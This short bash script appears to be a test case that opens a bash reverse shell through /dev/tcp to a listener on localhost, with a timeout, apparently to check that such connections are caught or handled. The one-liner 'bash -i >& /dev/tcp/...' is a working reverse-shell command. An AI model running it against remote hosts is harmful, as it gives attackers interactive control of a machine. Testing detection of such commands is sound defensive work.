#!/usr/bin/env bash
# A reverse shell through bash's /dev/tcp to a local listener.
. "$(dirname "$0")/lib.sh"
port=$(free_port)
listener "$port"
timeout 5 bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
wait
exit 0
